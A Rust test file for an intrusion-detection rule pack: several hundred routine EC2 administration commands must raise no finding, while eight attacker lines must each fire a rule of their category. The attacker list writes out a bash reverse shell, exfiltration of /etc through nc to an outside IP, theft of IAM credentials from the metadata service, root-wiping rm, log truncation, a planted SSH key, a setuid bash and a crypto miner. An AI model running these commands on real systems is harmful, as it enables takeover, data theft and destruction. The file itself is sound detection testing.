//! The default rule pack against ordinary administration: a few hundred commands that SREs and
//! developers type on EC2 instances go through the whole detection pipeline (terminal
//! reconstruction, command extraction, normalisation, matching) and must raise no finding at all.
//! A small list of attacker lines, one per category, shows the same pipeline does fire.
//!
//! A command that some rule deliberately flags (an IMDSv2 token request, `sudo su -`,
//! `crontab -e`, `mkfs` on a new volume) does not belong here: see docs/rules.md.

use std::collections::BTreeSet;
use warden_core::rules::{DEFAULT_PACK, DEFAULT_PACK_NAME, RulePack, RuleSet, default_rules};
use warden_core::transcript::scan::{TranscriptInput, scan_input};

const PROMPT: &str = "[ec2-user@ip-10-0-0-1 ~]$ ";

/// What people type on a working day. Each line is one command line as typed at the prompt.
const BENIGN: &[&str] = &[
    // Navigation and files.
    "ls",
    "ls -la",
    "ls -lah /var/log",
    "ll",
    "cd /var/www/html",
    "cd ~",
    "cd -",
    "pwd",
    "tree -L 2 /opt/app",
    // find and disk usage.
    "find . -name '*.py' -newer setup.py",
    "find /var/log -name '*.log' -size +100M",
    "find /tmp -type f -mtime +7 -delete",
    "find . -type d -name node_modules -prune -exec rm -rf {} +",
    "du -sh /var/lib/docker",
    "du -h --max-depth=1 / 2>/dev/null | sort -h",
    // Disks and filesystems.
    "df -h",
    "df -i",
    "lsblk",
    "lsblk -f",
    "blkid",
    "mount | grep nvme",
    "sudo mount /dev/nvme1n1 /data",
    "sudo umount /data",
    "cat /etc/fstab",
    "sudo growpart /dev/nvme0n1 1",
    "sudo resize2fs /dev/nvme0n1p1",
    "sudo xfs_growfs -d /",
    // System information.
    "free -m",
    "uptime",
    "w",
    "who",
    "last -n 20",
    "id",
    "whoami",
    "hostname -f",
    "uname -a",
    "cat /etc/os-release",
    "cat /etc/system-release",
    "date",
    "timedatectl status",
    "sudo timedatectl set-timezone UTC",
    "chronyc tracking",
    "top -b -n 1 | head -20",
    "htop",
    // Processes and performance.
    "ps aux",
    "ps aux --sort=-%mem | head",
    "ps -ef | grep java",
    "pgrep -a nginx",
    "pstree -p",
    "kill 12345",
    "kill -HUP $(cat /var/run/nginx.pid)",
    "sudo kill -9 23456",
    "pkill -f 'gunicorn: worker'",
    "vmstat 1 5",
    "iostat -xz 1 3",
    "sar -u 1 3",
    "sudo iotop -o",
    "sudo lsof -i :8080",
    "sudo ss -tlnp",
    "netstat -an | grep ESTABLISHED | wc -l",
    // Network diagnostics.
    "ip addr",
    "ip route",
    "ip -s link",
    "ping -c 3 10.0.1.5",
    "traceroute 8.8.8.8",
    "mtr -rw example.com",
    "dig +short db.internal",
    "nslookup api.example.com",
    "host example.com",
    // HTTP APIs, the instance metadata service (non-credential paths), downloads.
    "curl -I https://example.com",
    "curl -s https://api.example.com/v1/health | jq .",
    r#"curl -sS -o /dev/null -w '%{http_code}\n' http://localhost:8080/health"#,
    r#"curl -X POST -H 'Content-Type: application/json' -d '{"name":"test"}' http://localhost:8080/api/items"#,
    "curl -X POST -H 'Content-Type: application/json' -d @payload.json https://api.example.com/v1/items",
    "curl -u admin:$TOKEN https://jenkins.internal/api/json",
    "curl -s http://169.254.169.254/latest/meta-data/instance-id",
    "curl -s http://169.254.169.254/latest/meta-data/placement/availability-zone",
    "curl -s http://169.254.169.254/latest/dynamic/instance-identity/document",
    "ec2-metadata --instance-id",
    "wget https://github.com/prometheus/node_exporter/releases/download/v1.8.1/node_exporter-1.8.1.linux-amd64.tar.gz",
    "wget -q -O /tmp/app.tgz https://artifacts.example.com/app/1.4.2/app.tgz",
    "curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && sudo mv kubectl /usr/local/bin/",
    // Connectivity checks and TLS.
    "nc -zv db.internal 5432",
    "nc -zv 10.0.1.5 22 < /dev/null",
    "timeout 1 bash -c '</dev/tcp/10.0.1.5/5432' && echo open",
    "telnet smtp.internal 25",
    "openssl s_client -connect example.com:443 -servername example.com < /dev/null",
    "openssl x509 -in /etc/ssl/certs/server.crt -noout -dates",
    "sudo openssl req -new -newkey rsa:2048 -nodes -keyout /tmp/new.key -out /tmp/new.csr",
    // SSH, scp and rsync between internal hosts.
    "ssh deploy@10.0.1.5",
    "ssh -i ~/.ssh/deploy.pem ec2-user@10.0.2.10 uptime",
    "ssh -L 5432:db.internal:5432 bastion",
    "ssh-keygen -t ed25519 -C 'ops@example.com'",
    "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
    "ssh-keyscan github.com >> ~/.ssh/known_hosts",
    "cat ~/.ssh/id_ed25519.pub",
    "chmod 700 ~/.ssh",
    "chmod 600 ~/.ssh/id_ed25519",
    "scp build/app.tgz deploy@10.0.1.5:/srv/releases/",
    "scp deploy@10.0.1.5:/var/log/app/app.log /tmp/",
    "scp -i ~/.ssh/id_rsa app.tgz deploy@10.0.1.5:/tmp/",
    "rsync -avz --delete ./dist/ deploy@10.0.1.6:/var/www/html/",
    "rsync -a --exclude=.git /srv/app/ /backup/app/",
    // Editors.
    "vim /etc/nginx/nginx.conf",
    "sudo vim /etc/nginx/conf.d/app.conf",
    "sudo nano /etc/hosts",
    "nano README.md",
    // Reading logs.
    "less /var/log/syslog",
    "sudo less /var/log/secure",
    "tail -f /var/log/nginx/access.log",
    "sudo tail -n 200 /var/log/messages",
    "tail -F /var/log/app/*.log | grep -i error",
    "head -n 50 /var/log/cloud-init-output.log",
    "grep -i error /var/log/syslog",
    "sudo grep 'Failed password' /var/log/auth.log | tail",
    "zgrep 500 /var/log/nginx/access.log.2.gz | wc -l",
    "awk '{print $9}' /var/log/nginx/access.log | sort | uniq -c | sort -rn",
    // Accounts, read only.
    "cat /etc/passwd | wc -l",
    "grep ec2-user /etc/passwd",
    "getent passwd ec2-user",
    "getent group docker",
    "cut -d: -f1 /etc/passwd",
    "sudo ls -l /etc/shadow",
    "man shadow",
    // Shell history and environment.
    "history | tail",
    "history 20",
    "history | grep docker",
    "echo $HISTFILE",
    "export HISTTIMEFORMAT='%F %T '",
    "export PATH=$PATH:/usr/local/go/bin",
    "echo 'export PATH=$PATH:/opt/bin' >> ~/.bashrc",
    "source ~/.bashrc",
    "alias k=kubectl",
    "env | grep -i proxy",
    "export AWS_REGION=eu-west-1",
    "export AWS_PROFILE=prod",
    "printenv HOME",
    // journald and log housekeeping.
    "journalctl -u nginx --since today",
    "journalctl -u amazon-ssm-agent -n 100 --no-pager",
    "sudo journalctl -xe",
    "sudo journalctl -f -u app",
    "sudo journalctl --disk-usage",
    "sudo journalctl --vacuum-size=500M",
    "sudo journalctl --vacuum-time=2weeks",
    "sudo logrotate -f /etc/logrotate.d/nginx",
    "sudo rm /var/log/nginx/access.log.2.gz",
    "sudo rm -f /var/log/messages-20240101 /var/log/secure-20240101",
    "sudo find /var/log -name '*.gz' -mtime +30 -delete",
    // Services.
    "systemctl status nginx",
    "systemctl status amazon-ssm-agent",
    "sudo systemctl restart nginx",
    "sudo systemctl restart amazon-ssm-agent",
    "sudo systemctl reload nginx",
    "sudo systemctl enable --now nginx",
    "sudo systemctl stop app",
    "sudo systemctl start app",
    "sudo systemctl daemon-reload",
    "systemctl list-units --type=service --state=running",
    "systemctl list-timers",
    "systemctl cat app.service",
    "sudo systemctl edit app.service",
    "systemctl is-enabled chronyd",
    "sudo systemctl restart amazon-cloudwatch-agent",
    "sudo /opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c file:/opt/aws/amazon-cloudwatch-agent/etc/config.json",
    "sudo amazon-cloudwatch-agent-ctl -a status",
    "sudo snap services amazon-ssm-agent",
    "sudo service nginx restart",
    "sudo service docker status",
    "sudo systemctl restart rsyslog",
    // Audit, SELinux and firewall, read or tightened.
    "sudo auditctl -l",
    "sudo ausearch -m USER_LOGIN -ts today",
    "sudo aureport --summary",
    "getenforce",
    "sestatus",
    "sudo setenforce 1",
    "sudo iptables -L -n -v",
    "sudo iptables -A INPUT -p tcp --dport 443 -j ACCEPT",
    "sudo nft list ruleset",
    "sudo ufw status verbose",
    "sudo ufw allow 22/tcp",
    "sudo firewall-cmd --list-all",
    "sudo firewall-cmd --add-port=8080/tcp --permanent",
    // Packages.
    "sudo dnf install -y nginx",
    "sudo yum install -y git jq",
    "sudo yum update -y",
    "sudo yum update -y amazon-ssm-agent",
    "sudo apt update && sudo apt upgrade -y",
    "sudo apt-get install -y python3-pip",
    "sudo apt install -y postgresql-client",
    "sudo dnf remove -y httpd",
    "rpm -qa | grep kernel",
    "dpkg -l | grep nginx",
    "sudo snap refresh amazon-ssm-agent",
    // Builds and runtimes.
    "pip install --user requests",
    "pip3 install -r requirements.txt",
    "python3 -m venv .venv && source .venv/bin/activate",
    "npm ci",
    "npm run build",
    "yarn install --frozen-lockfile",
    "go build ./...",
    "cargo build --release",
    "make -j4",
    "./configure --prefix=/usr/local && make && sudo make install",
    "java -jar app.jar --spring.profiles.active=prod",
    "python3 manage.py migrate",
    "python3 -c 'import sys; print(sys.version)'",
    "python3 -m http.server 8000",
    "node -e 'console.log(process.versions)'",
    // git.
    "git status",
    "git pull --rebase",
    "git log --oneline -n 20",
    "git diff HEAD~1",
    "git checkout -b fix/timeout",
    "git commit -am 'Raise the upstream timeout'",
    "git push origin fix/timeout",
    "git clone https://github.com/example/app.git",
    "git stash && git pull && git stash pop",
    // Containers.
    "docker ps",
    "docker ps -a --format '{{.Names}} {{.Status}}'",
    "docker images",
    "docker logs -f --tail 100 web",
    "docker exec -it web sh",
    "docker exec -it db psql -U postgres",
    "docker compose up -d",
    "docker compose logs -f api",
    "docker compose down",
    "docker build -t app:1.4.2 .",
    "docker pull 123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1.4.2",
    "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com",
    "docker system prune -af",
    "docker stats --no-stream",
    "docker inspect web | jq '.[0].State'",
    "sudo usermod -aG docker ec2-user",
    // Kubernetes and Helm.
    "kubectl get pods -A",
    "kubectl get nodes -o wide",
    "kubectl describe pod web-7d9c8f-abcde -n prod",
    "kubectl logs -f deploy/api -n prod",
    "kubectl rollout restart deployment/api -n prod",
    "kubectl rollout status deployment/api -n prod",
    "kubectl apply -f k8s/",
    "kubectl delete pod web-7d9c8f-abcde -n prod",
    "kubectl exec -it web-7d9c8f-abcde -n prod -- sh",
    "kubectl port-forward svc/grafana 3000:80 -n monitoring",
    "kubectl get events --sort-by=.lastTimestamp",
    "kubectl top pods -n prod",
    "kubectl config use-context prod",
    "helm list -A",
    "helm upgrade --install api ./charts/api -n prod -f values-prod.yaml",
    "helm repo update",
    "helm rollback api 3 -n prod",
    // Terraform and Ansible.
    "terraform init",
    "terraform plan -out tfplan",
    "terraform apply tfplan",
    "terraform state list",
    "terraform fmt -recursive",
    "ansible-playbook -i inventory site.yml --check",
    // AWS CLI.
    "aws sts get-caller-identity",
    "aws s3 ls",
    "aws s3 ls s3://app-artifacts/releases/",
    "aws s3 cp app.log s3://logs-bucket/app.log",
    "aws s3 cp s3://app-artifacts/releases/app-1.4.2.tgz /tmp/",
    "aws s3 sync ./dist s3://site-bucket/ --delete",
    "aws s3 cp /var/log/nginx/access.log s3://logs-bucket/nginx/",
    "aws ec2 describe-instances --filters Name=tag:Name,Values=web --query 'Reservations[].Instances[].InstanceId'",
    "aws ssm get-parameter --name /app/prod/db_host",
    "aws logs tail /aws/lambda/api --follow",
    "aws cloudwatch get-metric-statistics --namespace AWS/EC2 --metric-name CPUUtilization --dimensions Name=InstanceId,Value=i-0abc --start-time 2024-01-01T00:00:00Z --end-time 2024-01-01T01:00:00Z --period 300 --statistics Average",
    "aws autoscaling describe-auto-scaling-groups",
    "aws configure list",
    "aws configure get region",
    "aws sts assume-role --role-arn arn:aws:iam::123456789012:role/deploy --role-session-name ops",
    // Databases.
    "psql -h db.internal -U app -d app",
    "psql -h db.internal -U app -c 'select count(*) from orders'",
    "mysql -h db.internal -u app -p app",
    "mysqldump -h db.internal -u app -p app > /tmp/app.sql",
    "pg_dump -h db.internal -U app app | gzip > /backup/app-$(date +%F).sql.gz",
    "redis-cli -h cache.internal ping",
    "redis-cli -h cache.internal info memory",
    "mongosh --host docdb.internal",
    // Archives, copies and permissions.
    "tar czf app-backup.tgz /opt/app",
    "tar xzf app.tgz -C /opt/app",
    "tar -tzf release.tgz | head",
    "gzip -d access.log.gz",
    "zip -r site.zip public/",
    "unzip release.zip -d /tmp/release",
    "cp config.yml config.yml.bak",
    "sudo cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak",
    "mv app.log app.log.1",
    "sudo mv /tmp/app.service /usr/local/share/app/",
    "mkdir -p /opt/app/releases/1.4.2",
    "ln -sfn /opt/app/releases/1.4.2 /opt/app/current",
    "sudo chown -R ec2-user:ec2-user /var/www/html",
    "chmod +x deploy.sh",
    "chmod 755 scripts/*.sh",
    "sudo chmod 644 /etc/nginx/conf.d/app.conf",
    "sudo chmod 1777 /srv/scratch",
    "sudo chmod g+s /srv/shared",
    // Scripts, sudo to service accounts, deletes of application paths.
    "./deploy.sh prod",
    "bash scripts/migrate.sh",
    "sh -c 'echo hello'",
    "sudo -u postgres psql",
    "sudo -u app /opt/app/bin/console cache:clear",
    "sudo -l",
    "sudo -u postgres -i",
    "su - deploy -c 'id'",
    "rm -rf ./build",
    "rm -rf /tmp/x",
    "rm -rf /var/tmp/cache",
    "rm -rf node_modules",
    "rm -f /tmp/*.pid",
    "sudo rm -rf /opt/app/releases/1.3.0",
    "rm ~/Downloads/old.tgz",
    // Output and redirection into application files.
    "echo rm -rf /",
    "echo 'hello world' > /tmp/hello.txt",
    "echo test >> /var/log/myapp.log",
    "./backup.sh > /var/log/backup.log 2>&1",
    r#"printf '%s\n' one two three"#,
    // Kernel, memory, swap.
    "cat /proc/meminfo",
    "cat /proc/cpuinfo | grep 'model name' | head -1",
    "cat /proc/loadavg",
    "sudo dmesg -T | tail -50",
    "sudo sysctl -a | grep vm.swappiness",
    "sudo sysctl -w vm.swappiness=10",
    "ulimit -n",
    "lsmod",
    "sudo modprobe nvme",
    "modinfo ena",
    "sudo dd if=/dev/zero of=/swapfile bs=1M count=2048",
    "sudo mkswap /swapfile",
    "sudo swapon /swapfile",
    "sudo fdisk -l",
    // Scheduled jobs, sudoers, keys and preload, read only.
    "crontab -l",
    "sudo crontab -l -u root",
    "ls /etc/cron.d",
    "cat /etc/crontab",
    "atq",
    "sudo visudo -c",
    "sudo cat /etc/sudoers",
    "ls -l /etc/sudoers.d",
    "cat ~/.ssh/authorized_keys",
    "wc -l ~/.ssh/authorized_keys",
    "ls ~/.aws",
    "cat ~/.aws/config",
    "cat /etc/ld.so.preload",
    "ldd /usr/bin/python3",
    // Debugging, terminals, loops.
    "strace -p 1234 -f -e trace=network",
    "sudo gdb -p 1234",
    "watch -n 5 'df -h'",
    "screen -ls",
    "tmux attach -t ops",
    "nohup ./worker.sh > worker.out 2>&1 &",
    "jobs",
    "fg",
    "sleep 30 && curl -s http://localhost:8080/health",
    "for h in web1 web2 web3; do ssh $h uptime; done",
    "while true; do date; sleep 5; done",
    "xargs -n1 echo < hosts.txt",
    "cat hosts.txt | xargs -I{} ping -c1 {}",
    // Text processing and checksums.
    "sed -i 's/workers 4/workers 8/' /etc/app/app.conf",
    "sudo sed -i 's/^#Port 22/Port 22/' /etc/ssh/sshd_config",
    "sudo sshd -t",
    "sort -u emails.txt > unique.txt",
    "diff -u old.conf new.conf",
    "md5sum app.tgz",
    "sha256sum -c SHA256SUMS",
    "base64 -d <<< aGVsbG8= ",
    "echo aGVsbG8K | base64 -d",
    "openssl rand -hex 16",
    "date +%s",
    "jq '.items[] | .name' data.json",
    "yq '.spec.replicas' deploy.yaml",
    "ncdu /var",
    // Odds and ends.
    "stat /etc/shadow",
    "touch /tmp/marker",
    "touch -d '1 hour ago' /tmp/marker",
    "sudo touch /etc/cloud/cloud-init.disabled",
    "exit",
    "clear",
    // More of a working day.
    "sudo tail -f /var/log/amazon/ssm/amazon-ssm-agent.log",
    "sudo cat /var/log/cloud-init.log",
    "sudo journalctl -u sshd --since '1 hour ago'",
    "curl -fsSL https://get.docker.com | sh",
    "sudo systemctl status amazon-ssm-agent --no-pager",
    "sudo ssm-cli get-diagnostics --output table",
    "sudo su - postgres",
    "echo 'http_proxy=http://proxy.internal:3128' | sudo tee -a /etc/environment",
    "sudo tee /etc/sysctl.d/99-custom.conf <<< 'vm.swappiness=10'",
    "echo 3 | sudo tee /proc/sys/vm/drop_caches",
    "sudo sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'",
    "sudo install -m 0755 app /usr/local/bin/app",
    r#"sudo -E env "PATH=$PATH" make install"#,
    "python3 -m json.tool < data.json",
    "mysql -u root -p < schema.sql",
    "sudo cat /var/log/secure | grep -i accepted",
    "aws s3 cp s3://config-bucket/deploy.pem ~/.ssh/deploy.pem",
    "docker system prune -af --volumes",
    "rm -rf ~/.cache/*",
    "cat ~/.ssh/config",
];

/// Realistic attacker lines, one per category of the default pack.
const ATTACKS: &[(&str, &str)] = &[
    ("destructive", "sudo rm -rf --no-preserve-root /"),
    (
        "credential_access",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role",
    ),
    ("defense_evasion", "sudo truncate -s 0 /var/log/secure"),
    (
        "persistence",
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMq attacker' >> /root/.ssh/authorized_keys",
    ),
    ("privilege_escalation", "sudo chmod u+s /bin/bash"),
    (
        "remote_exec_c2",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ),
    ("exfiltration", "tar czf - /etc | nc 203.0.113.9 4444"),
    (
        "cryptomining",
        "nohup /tmp/.x/xmrig -o stratum+tcp://pool.example.com:3333 -u 4AAAwallet &",
    ),
];

/// The rules that fire on one command typed at a prompt, read as a plain transcript.
fn findings(rules: &RuleSet, command: &str) -> Vec<String> {
    let transcript = TranscriptInput::Text(format!("{PROMPT}{command}\n"));
    scan_input(rules, &transcript)
        .into_iter()
        .map(|hit| hit.rule.id.clone())
        .collect()
}

#[test]
fn the_corpus_is_large_and_has_no_duplicates() {
    assert!(BENIGN.len() >= 300, "only {} benign commands", BENIGN.len());
    let mut seen = BTreeSet::new();
    let duplicates: Vec<&str> = BENIGN
        .iter()
        .copied()
        .filter(|c| !seen.insert(*c))
        .collect();
    assert!(duplicates.is_empty(), "listed twice: {duplicates:?}");
}

#[test]
fn ordinary_administration_raises_no_finding() {
    let rules = default_rules();
    let offending: Vec<String> = BENIGN
        .iter()
        .flat_map(|command| {
            findings(&rules, command)
                .into_iter()
                .map(move |id| format!("  {id}: {command}"))
        })
        .collect();
    assert!(
        offending.is_empty(),
        "{} finding(s) on benign commands:\n{}",
        offending.len(),
        offending.join("\n")
    );
}

#[test]
fn the_whole_corpus_as_one_session_raises_no_finding() {
    // The same commands in one transcript: state carried between lines (prompts, continuation
    // lines) must not turn benign lines into findings either.
    let rules = default_rules();
    let transcript: String = BENIGN.iter().map(|c| format!("{PROMPT}{c}\n")).collect();
    let hits = scan_input(&rules, &TranscriptInput::Text(transcript));
    let shown: Vec<String> = hits
        .iter()
        .map(|h| format!("  {}: line {}: {}", h.rule.id, h.line, h.command))
        .collect();
    assert!(shown.is_empty(), "findings:\n{}", shown.join("\n"));
}

#[test]
fn attacker_lines_fire_a_rule_of_their_category() {
    let rules = default_rules();
    let mut missed = Vec::new();
    for (category, command) in ATTACKS {
        let fired = findings(&rules, command);
        let in_category = fired
            .iter()
            .any(|id| rules.find(id).is_some_and(|r| r.category == *category));
        if !in_category {
            missed.push(format!("  {category}: {command} (fired: {fired:?})"));
        }
    }
    assert!(missed.is_empty(), "not detected:\n{}", missed.join("\n"));

    let pack: BTreeSet<&str> = rules.rules().iter().map(|r| r.category.as_str()).collect();
    let covered: BTreeSet<&str> = ATTACKS.iter().map(|(category, _)| *category).collect();
    assert_eq!(pack, covered, "one attacker line per category of the pack");
}

#[test]
fn default_patterns_keep_the_matcher_fast() {
    // All patterns share one RegexSet. One unanchored pattern makes the set scan every command to
    // its end, and Unicode word classes multiply the automaton: either makes the scanner several
    // to tens of times slower on commands it has not seen before (see the pack's header).
    let pack = RulePack::parse(DEFAULT_PACK, DEFAULT_PACK_NAME).unwrap();
    let mut slow = Vec::new();
    for rule in &pack.rules {
        for pattern in rule.patterns.iter().chain(&rule.exceptions) {
            let anchored = pattern.starts_with('^') || pattern.starts_with("(?i)^");
            let unicode_word =
                pattern.replace("(?-u:\\b)", "").contains("\\b") || pattern.contains("\\w");
            if (rule.patterns.contains(pattern) && !anchored)
                || unicode_word
                || unicode_class(pattern)
            {
                slow.push(format!("  {}: {pattern}", rule.id));
            }
        }
    }
    assert!(
        slow.is_empty(),
        "unanchored or Unicode-class patterns:\n{}",
        slow.join("\n")
    );
}

/// `\s`, `\S` or `\d` (an unescaped backslash before them): Unicode classes that, across the
/// whole pack, outgrow the matcher's automaton cache. `[ \t]`, `[^ \t]` and `[0-9]` do not.
fn unicode_class(pattern: &str) -> bool {
    let bytes = pattern.as_bytes();
    let mut i = 0;
    while i + 1 < bytes.len() {
        if bytes[i] == b'\\' {
            if matches!(bytes[i + 1], b's' | b'S' | b'd') {
                return true;
            }
            i += 2;
        } else {
            i += 1;
        }
    }
    false
}
